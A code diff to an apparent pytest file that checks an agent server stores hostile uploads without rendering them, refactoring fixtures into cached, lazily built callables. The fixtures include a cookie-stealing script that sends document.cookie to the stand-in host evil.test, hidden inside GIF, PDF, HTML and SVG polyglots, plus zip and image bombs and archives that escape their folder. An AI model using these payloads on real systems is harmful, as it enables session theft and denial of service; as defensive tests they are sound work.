@@ -9,8 +9,9 @@ import struct
 import tarfile
 import zipfile
 import zlib
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from contextlib import suppress
+from functools import cache
 from pathlib import Path
 from typing import Any
 
@@ -51,6 +52,7 @@ def archive_with_links() -> bytes:
         return file.getvalue()
 
 
+@cache
 def archive_bomb() -> bytes:
     with io.BytesIO() as file:
         with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
@@ -58,6 +60,7 @@ def archive_bomb() -> bytes:
         return file.getvalue()
 
 
+@cache
 def image_bomb() -> bytes:
     """Return a PNG that claims 50,000 by 50,000 pixels."""
 
@@ -70,15 +73,19 @@ def image_bomb() -> bytes:
 
 
 SCRIPT = b"<script>fetch('//evil.test/'+document.cookie)</script>"
-FILES: dict[str, tuple[str, bytes]] = {
-    "zip that leads out": ("application/zip", archive_with_a_way_out()),
-    "tar with links": ("application/gzip", archive_with_links()),
-    "zip bomb": ("application/zip", archive_bomb()),
-    "image bomb": ("image/png", image_bomb()),
-    "image and page": ("image/gif", b"GIF89a/*" + SCRIPT + b"*/=1;"),
-    "document and page": ("application/pdf", b"%PDF-1.7\n" + SCRIPT + b"\n1 0 obj<</JS(app.alert(1))>>endobj"),
-    "page": ("text/html", b"<!doctype html>" + SCRIPT),
-    "drawing with a script": ("image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"),
+# Each with the function that makes it: other tests of this process need not wait for a bomb.
+FILES: dict[str, tuple[str, Callable[[], bytes]]] = {
+    "zip that leads out": ("application/zip", archive_with_a_way_out),
+    "tar with links": ("application/gzip", archive_with_links),
+    "zip bomb": ("application/zip", archive_bomb),
+    "image bomb": ("image/png", image_bomb),
+    "image and page": ("image/gif", lambda: b"GIF89a/*" + SCRIPT + b"*/=1;"),
+    "document and page": ("application/pdf", lambda: b"%PDF-1.7\n" + SCRIPT + b"\n1 0 obj<</JS(app.alert(1))>>endobj"),
+    "page": ("text/html", lambda: b"<!doctype html>" + SCRIPT),
+    "drawing with a script": (
+        "image/svg+xml",
+        lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
+    ),
 }
 
 
@@ -91,7 +98,8 @@ def entries(folder: Path) -> set[Path]:
 
 @pytest.mark.parametrize("name", FILES)
 def test_a_hostile_file_is_kept_as_it_is_and_never_rendered(live_komand: LiveKomand, session: str, name: str) -> None:
-    media_type, body = FILES[name]
+    media_type, make = FILES[name]
+    body = make()
     before, places = entries(live_komand.data_dir), {"path": f"files/{name}.bin"}
     url = f"{live_komand.url}/api/sessions/{session}/artifacts"
     stored = httpx2.post(
@@ -113,12 +121,12 @@ def test_a_hostile_file_is_kept_as_it_is_and_never_rendered(live_komand: LiveKom
 
 def test_hostile_files_do_not_keep_the_agent_from_answering(live_komand: LiveKomand, session: str) -> None:
     """Store all of them in one session, whose files are listed to the model."""
-    for name, (media_type, body) in FILES.items():
+    for name, (media_type, make) in FILES.items():
         url, more = f"{live_komand.url}/api/sessions/{session}/artifacts", {"Content-Type": media_type}
         stored = httpx2.post(
             url,
             params={"path": f"files/{name}"},
-            content=body,
+            content=make(),
             headers={**headers(live_komand), **more},
             timeout=_LIMIT,
         )
